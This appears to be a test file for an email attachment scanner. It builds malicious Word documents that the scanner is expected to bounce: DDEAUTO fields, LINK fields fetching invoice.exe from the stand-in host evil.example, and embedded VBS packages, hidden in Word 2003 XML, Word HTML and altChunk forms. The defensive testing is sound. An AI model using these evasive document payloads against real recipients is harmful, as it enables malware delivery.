import { olePackageObject, zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit } from './attacker-kit.js';
import { DDE_COMMAND, DOCX, fieldBegin, fieldEnd, instrRun, W } from './office-builders.js';
import { useLocalStack } from './stack.js';

// Word fields that run a program (DDEAUTO) or open a file (LINK, INCLUDETEXT), in forms the field reader misses.
const stack = useLocalStack();
const kit = attackerKit(stack);
const verdict = async (name: string, file: Buffer, type?: string) =>
  (await kit.inbound(attachedFile(name, file, type)[0])).verdict;
const begin = fieldBegin;
const end = fieldEnd;
const instr = instrRun;
const DDE = DDE_COMMAND;

// A50-3 (high): a Word 2003 XML document (`<w:wordDocument>`, opened by Word as .xml through its mso-application
// instruction and as .doc by its content) is no Flat OPC package: packagingDocumentOf (archive-files.ts:118) does not
// list it and its fields are read only in archive entries (archive-files.ts:261). Its fields and its w:binData
// (oledata.mso: the document's embedded objects) go unread.
const wordMl = (body: string) =>
  Buffer.from(
    `<?xml version="1.0" standalone="yes"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" xmlns:o="urn:schemas-microsoft-com:office:office"><w:body>${body}</w:body></w:wordDocument>`,
  );
describe('A50-3: a Word 2003 XML document', () => {
  it('bounces a Word 2003 .xml with a DDEAUTO field', async () => {
    const body = `<w:p>${begin}${instr(DDE)}${end}</w:p>`;
    expect(await verdict('Invoice.xml', wordMl(body), 'text/xml')).toBe('BOUNCE');
  });
  it('bounces a Word 2003 .doc with a LINK field to an executable on a share', async () => {
    const body = `<w:p><w:fldSimple w:instr="LINK Package &quot;\\\\\\\\evil.example\\\\s\\\\invoice.exe&quot; &quot;&quot; \\a"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`;
    expect(await verdict('Invoice.doc', wordMl(body), 'application/msword')).toBe('BOUNCE');
  });
  it('bounces a Word 2003 .doc whose w:binData oledata.mso holds a packaged script', async () => {
    const ole = olePackageObject('invoice.vbs', Buffer.from('CreateObject("WScript.Shell").Run "calc"\r\n'));
    const body = `<w:p><w:r><w:binData w:name="oledata.mso">${ole.toString('base64')}</w:binData><w:pict><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" w:binDataName="oledata.mso"/></w:pict></w:r></w:p>`;
    expect(await verdict('Invoice.doc', wordMl(body), 'application/msword')).toBe('BOUNCE');
  });
  it('(control) delivers a plain Word 2003 .xml', async () => {
    expect(await verdict('Invoice.xml', wordMl('<w:p><w:r><w:t>Invoice</w:t></w:r></w:p>'), 'text/xml')).toBe(
      'DEFAULT',
    );
  });
});

// A50-4 (high): Word saves and reads fields in HTML as `<!--[if supportFields]><span style='mso-element:field-begin'>`
// … code … `field-separator` … `field-end`; it opens HTML (and MHT) named .doc by content, and shows an altChunk's
// HTML as part of a .docx. No reader looks for these fields.
const wordHtml = (code: string) =>
  Buffer.from(
    `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40"><head><meta name=ProgId content=Word.Document></head><body><p class=MsoNormal><!--[if supportFields]><span style='mso-element:field-begin'></span>${code}<span style='mso-element:field-separator'></span><![endif]-->x<!--[if supportFields]><span style='mso-element:field-end'></span><![endif]--></p></body></html>`,
  );
describe('A50-4: fields in Word HTML', () => {
  it('bounces an HTML .doc with a DDEAUTO field', async () => {
    expect(await verdict('Invoice.doc', wordHtml(DDE), 'application/msword')).toBe('BOUNCE');
  });
  it('bounces an HTML .doc with a LINK field to an executable on a share', async () => {
    const code = 'LINK Package "\\\\\\\\evil.example\\\\s\\\\invoice.exe" "" \\a';
    expect(await verdict('Invoice.doc', wordHtml(code), 'application/msword')).toBe('BOUNCE');
  });
  it('bounces a .docx whose altChunk HTML has a DDEAUTO field', async () => {
    const file = zipFile([
      {
        name: 'word/document.xml',
        data: `<w:document xmlns:w="${W}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:altChunk r:id="rId9"/></w:body></w:document>`,
      },
      {
        name: 'word/_rels/document.xml.rels',
        data: '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="chunk.htm"/></Relationships>',
      },
      { name: 'word/chunk.htm', data: wordHtml(DDE) },
    ]);
    expect(await verdict('Invoice.docx', file, DOCX)).toBe('BOUNCE');
  });
});
